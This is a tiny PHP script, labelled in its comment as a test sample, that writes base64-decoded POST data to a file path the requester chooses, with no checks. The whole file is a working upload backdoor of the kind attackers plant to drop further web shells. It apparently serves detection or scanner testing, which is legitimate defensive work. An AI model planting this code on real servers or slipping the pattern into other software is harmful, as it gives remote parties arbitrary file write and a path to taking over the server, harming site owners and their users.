<?php
// Test sample: writes a base64 blob from POST to a POST-chosen path.
if (isset($_POST['name'], $_POST['data'])) {
    $n = file_put_contents($_POST['name'], base64_decode($_POST['data']));
    echo $n ? 'written ' . $n : 'error';
}
